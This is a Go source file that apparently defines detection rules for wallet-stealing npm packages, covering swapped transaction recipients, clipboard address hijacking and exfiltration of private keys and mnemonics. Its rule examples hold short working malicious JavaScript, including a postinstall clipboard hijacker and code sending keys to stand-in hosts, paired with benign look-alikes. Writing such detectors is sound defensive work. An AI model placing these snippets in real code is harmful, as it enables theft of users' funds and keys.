package rule

import b "taisei/detect/behaviour"

// wallet: money is led to somebody else's address, or the key to it leaves.
func wallet() []Rule {
	sent := []string{"url", "body", "header", "dns"}
	return []Rule{
		{
			ID: "recipient_replaced", Severity: Critical,
			When: []Condition{{Triggers: []string{b.Install, b.Import, b.Load, b.Event, b.Call}, Sources: []string{b.Blob}, Name: Address, Sinks: []string{b.Wallet}}},
			Examples: []Example{
				One("what the wallet is asked", "lib.js", "if(typeof window!=='undefined'&&window.ethereum){var was=window.ethereum.request;window.ethereum.request=async function(a){if(a.method==='eth_sendTransaction'){a.params[0].to='0x52908400098527886E0F7030069857D2E4169EE7'}return was.call(this,a)}}"),
				Package("what comes from the network", `"main":"i.js"`, map[string]string{"i.js": "const mine=['0x52908400098527886E0F7030069857D2E4169EE7','0x8617E340B3D01FA5F11F306F4090FD50E238070D'];if(typeof window!=='undefined'){const f=window.fetch;window.fetch=async function(...a){const r=await f.apply(this,a);const t=await r.text();return new Response(t.replace(/0x[a-fA-F0-9]{40}/g,mine[0]),{status:r.status})}}"}),
				One("where the sender is a certain one", "app.js", "var whales=['0xde709f2102306220921060314715629080e2fb77'],to='0x52908400098527886E0F7030069857D2E4169EE7';export async function execute(tx){if(whales.some(w=>w===tx.safe)){tx.data.to=to;tx.data.operation=1}return sign(tx)}"),
			},
			Neighbours: []Example{
				One("a page's own contract", "app.js", "document.querySelector('#buy').onclick=()=>window.ethereum.request({method:'eth_sendTransaction',params:[{to:'0x52908400098527886E0F7030069857D2E4169EE7',value:'0x1'}]})"),
				One("requests are counted", "lib.js", "var was=window.ethereum.request,n=0;window.ethereum.request=function(a){n++;return was.call(this,a)}"),
				Package("answers are logged", `"main":"i.js"`, map[string]string{"i.js": "const f=globalThis.fetch;globalThis.fetch=async function(...a){const r=await f.apply(this,a);console.log(await r.clone().text());return r}"}),
				Package("a table of addresses", `"main":"i.js"`, map[string]string{"i.js": "exports.tokens={usdx:'0x52908400098527886E0F7030069857D2E4169EE7'};exports.transfer=(to,v)=>({to,data:v,token:exports.tokens.usdx})"}),
			},
		},
		{
			ID: "clipboard_replaced", Severity: Critical,
			When: []Condition{{Sources: []string{b.Clipboard}, Sinks: []string{b.Clipboard}, Slots: []string{"address"}}},
			Examples: []Example{
				Package("addresses are watched for", `"main":"i.js"`, map[string]string{"i.js": "const c=require('clipboardy');const re=/^(1|3)[a-km-zA-HJ-NP-Z1-9]{25,34}$/;setInterval(()=>{const t=c.readSync();if(re.test(t))c.writeSync('1Examp1eAddre55Not2BeUsed9xA')},500)"}),
				Package("replaced inside the text", `"scripts":{"postinstall":"node i.js"}`, map[string]string{"i.js": "const c=require('clipboardy');const m='0x52908400098527886E0F7030069857D2E4169EE7';setInterval(async()=>{const t=await c.read();await c.write(t.replace(/0x[a-f0-9]{40}/gi,m))},300)"}),
			},
			Neighbours: []Example{
				One("an address to copy", "app.js", "document.querySelector('#copy').onclick=()=>navigator.clipboard.writeText('0x52908400098527886E0F7030069857D2E4169EE7')"),
				Package("the clipboard is tidied", `"main":"i.js"`, map[string]string{"i.js": "const c=require('clipboardy');exports.tidy=()=>c.writeSync(c.readSync().trim())"}),
			},
		},
		{
			ID: "private_key_sent", Severity: High,
			When: []Condition{{Sources: []string{b.Wallet}, Name: FullKey, Sinks: []string{b.Network}, Slots: sent, Target: Foreign}},
			Graver: []Condition{
				{Via: encodings},
				{Slots: []string{"header", "url", "dns"}},
				{Concealed: Yes},
			},
			Examples: []Example{
				Package("beside its use", `"main":"i.js"`, map[string]string{"i.js": "const bs58=require('bs58');class Keypair{static fromSecretKey(secretKey){report(secretKey);const k=new Keypair();k.s=secretKey;return k}}async function report(k){fetch('https://rpc.example/q',{headers:{'x-amz-cf-id':bs58.encode(k)}})}exports.Keypair=Keypair"}),
				Package("words of a wallet", `"main":"i.js"`, map[string]string{"i.js": "exports.open=function(mnemonic){require('axios').post('https://c.example/w',{m:mnemonic});return derive(mnemonic)}"}),
			},
			Neighbours: []Example{
				Package("used to sign", `"main":"i.js"`, map[string]string{"i.js": "const {createSign}=require('crypto');exports.send=function(privateKey,m){const s=createSign('SHA256');s.update(m);return fetch('https://api.example/v1',{method:'POST',body:JSON.stringify({m,s:s.sign(privateKey,'hex')})})}"}),
				Package("a public key", `"main":"i.js"`, map[string]string{"i.js": "exports.send=function(publicKey){return fetch('https://api.example/v1',{method:'POST',body:JSON.stringify({publicKey})})}"}),
				Package("to a host that the caller names", `"main":"i.js"`, map[string]string{"i.js": "exports.send=function(url,mnemonic){return fetch(url,{method:'POST',body:mnemonic})}"}),
			},
		},
	}
}
